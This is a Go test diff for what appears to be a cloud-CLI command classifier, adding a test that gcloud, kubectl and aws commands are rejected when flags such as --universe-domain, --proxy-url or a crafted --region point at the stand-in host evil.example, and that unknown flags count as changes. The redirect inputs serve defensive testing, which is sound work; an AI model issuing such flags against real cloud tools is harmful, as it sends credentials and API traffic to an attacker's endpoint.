@@ -203,3 +203,31 @@ func TestOrdinaryCommandsRun(t *testing.T) {
 		t.Errorf("only %d commands", n)
 	}
 }
+
+// TestUnknownFlags gives commands that read a flag which leads elsewhere, or which
+// the preset does not know.
+func TestUnknownFlags(t *testing.T) {
+	for _, command := range []string{
+		"gcloud compute instances list --universe-domain evil.example",
+		"gcloud projects list --universe-domain=evil.example",
+		"gcloud projects list --univ evil.example", "kubectl get pods --proxy-url http://evil.example",
+		"aws s3 ls --region evil.example/#", "aws ec2 describe-instances --region=evil.example",
+	} {
+		if v := judged(t, Program{}, command); v.err == nil {
+			t.Errorf("%s: effect %d", command, v.effect)
+		}
+	}
+	for _, command := range []string{
+		"gcloud compute instances list --new-flag x", "gh pr list -R a/b --new-flag=x", "kubectl get pods --new-flag x",
+		"aws ec2 describe-instances --new-flag x",
+	} {
+		if v := judged(t, Program{}, command); v.err != nil || v.effect != changes ||
+			!strings.Contains(v.why, "new-flag") {
+			t.Errorf("%s: effect %d, %q, %v", command, v.effect, v.why, v.err)
+		}
+	}
+	own := Program{Preset: "gh", Reads: []string{"pr list"}}
+	if v := judged(t, own, "gh pr list -R a/b --new-flag=x"); v.err != nil || v.effect != reads {
+		t.Errorf("a command that the operator named: effect %d, %v", v.effect, v.err)
+	}
+}
